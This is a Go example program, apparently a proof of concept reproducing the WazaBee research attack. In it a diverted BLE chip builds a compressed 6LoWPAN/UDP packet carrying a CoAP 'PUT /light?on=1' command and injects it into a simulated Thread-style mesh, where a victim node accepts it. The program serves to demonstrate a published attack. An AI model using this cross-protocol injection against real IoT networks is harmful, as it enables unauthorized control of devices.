// Thread-style 6LoWPAN injection: the paper's generality claim —
// "our approach is compliant with all 802.15.4 frames (Zigbee, 6LoWPan
// ...)" — demonstrated beyond Zigbee. A diverted BLE chip builds a
// compressed 6LoWPAN UDP datagram (CoAP-style payload) and injects it
// into a Thread-style mesh; the victim node decompresses a perfectly
// valid IPv6/UDP packet.
package main

import (
	"fmt"
	"io"
	"log"
	"os"

	"wazabee"
	"wazabee/internal/bitstream"
	"wazabee/internal/ieee802154"
	"wazabee/internal/radio"
	"wazabee/internal/sixlowpan"
)

const (
	pan      = 0xface
	attacker = 0x0b0b
	victim   = 0x0001
	channel  = 20
	sps      = 8
)

func main() {
	if err := run(os.Stdout); err != nil {
		log.Fatal(err)
	}
}

func run(w io.Writer) error {
	// Build the IPv6/UDP datagram and compress it with 6LoWPAN IPHC.
	ip := &sixlowpan.IPv6Header{
		NextHeader: sixlowpan.ProtoUDP,
		HopLimit:   64,
		Src:        sixlowpan.LinkLocalFromShort(pan, attacker),
		Dst:        sixlowpan.LinkLocalFromShort(pan, victim),
	}
	udp := &sixlowpan.UDPHeader{SrcPort: 5683, DstPort: 5683} // CoAP
	payload := []byte("PUT /light?on=1")
	datagram, err := sixlowpan.Compress(pan, attacker, victim, ip, udp, payload)
	if err != nil {
		return err
	}
	fmt.Fprintf(w, "IPv6(40B) + UDP(8B) + %dB payload compressed to %d bytes of 6LoWPAN\n",
		len(payload), len(datagram))

	// Inject it with the WazaBee transmission primitive.
	frame := wazabee.NewDataFrame(1, pan, victim, attacker, datagram, false)
	psdu, err := frame.Encode()
	if err != nil {
		return err
	}
	tx, err := wazabee.NewTransmitter(wazabee.NRF52832(), sps)
	if err != nil {
		return err
	}
	sig, err := tx.ModulatePSDU(psdu)
	if err != nil {
		return err
	}
	medium, err := radio.NewMedium(float64(sps)*ieee802154.ChipRate, 7)
	if err != nil {
		return err
	}
	freq, err := ieee802154.ChannelFrequencyMHz(channel)
	if err != nil {
		return err
	}
	capture, err := medium.Deliver(sig, freq, freq, radio.Link{SNRdB: 15, LeadSamples: 200, LagSamples: 100})
	if err != nil {
		return err
	}

	// The Thread-style node receives and reassembles the packet.
	phy, err := wazabee.RZUSBStick().NewZigbeePHY(sps)
	if err != nil {
		return err
	}
	dem, err := phy.Demodulate(capture)
	if err != nil {
		return err
	}
	rx, err := ieee802154.ParseMACFrame(dem.PPDU.PSDU)
	if err != nil {
		return err
	}
	gotIP, gotUDP, gotPayload, err := sixlowpan.Decompress(pan, rx.SrcAddr, rx.DestAddr, rx.Payload)
	if err != nil {
		return err
	}

	fmt.Fprintf(w, "victim received (FCS ok: %v):\n", bitstream.CheckFCS(dem.PPDU.PSDU))
	fmt.Fprintf(w, "  IPv6 %x -> %x hop=%d\n", gotIP.Src[14:], gotIP.Dst[14:], gotIP.HopLimit)
	fmt.Fprintf(w, "  UDP %d -> %d\n", gotUDP.SrcPort, gotUDP.DstPort)
	fmt.Fprintf(w, "  payload: %q\n", gotPayload)
	fmt.Fprintln(w, "\na BLE chip just spoke Thread — no 802.15.4 hardware involved")
	return nil
}
